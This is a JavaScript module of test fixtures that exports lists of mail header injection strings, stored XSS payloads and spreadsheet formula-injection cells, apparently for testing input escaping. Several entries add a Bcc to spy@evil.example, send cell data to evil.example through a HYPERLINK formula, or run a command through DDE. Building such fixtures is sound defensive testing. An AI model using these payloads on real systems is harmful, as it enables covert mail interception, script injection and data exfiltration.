/** Text that would add a header to a mail if inserted unescaped. */
export const HEADER_INJECTIONS = [
  'Ann\r\nBcc: spy@evil.example',
  'Ann\nBcc: spy@evil.example',
  'Ann\rBcc: spy@evil.example',
  'Ann\u2028Bcc: spy@evil.example',
  'Ann\u0085Bcc: spy@evil.example',
  'Ann\u0000\r\n\r\nA body of my own',
  'Ann%0d%0aBcc: spy@evil.example',
  '=?utf-8?B?QW5uDQpCY2M6IHNweUBldmlsLmV4YW1wbGU=?=',
  '=?utf-8?Q?Ann=0D=0ABcc:_spy@evil.example?=',
  '"Ann" <spy@evil.example>, x',
  'Ann>\r\nTo: spy@evil.example\r\nX-A: <a',
  'Ann\r\n Bcc: spy@evil.example',
  '\u202eelpmaxe.live@yps :ccB',
];

/** Stored XSS payloads for pages, mails and tables (after OWASP's cheat sheet on filter evasion). */
export const SCRIPTS = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '</textarea><svg onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  '<ScRiPt\n>alert(1)</sCrIpT >',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<svg><animate onbegin=alert(1) attributeName=x></svg>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<a href="javascript:alert(1)">a</a>',
  'javascript:alert(1)',
  'JaVaScRiPt&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '" autofocus onfocus=alert(1) x="',
  '\u0022\u003e\u003cscript\u003ealert(1)\u003c/script\u003e',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '＜script＞alert(1)＜/script＞',
  '<style>@import "//evil.example"</style>',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=a>',
  '{{constructor.constructor("alert(1)")()}}',
];

/** Cells that a spreadsheet would execute. */
export const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '=HYPERLINK("http://evil.example?"&A1,"open")',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\uff1d1+1',
];
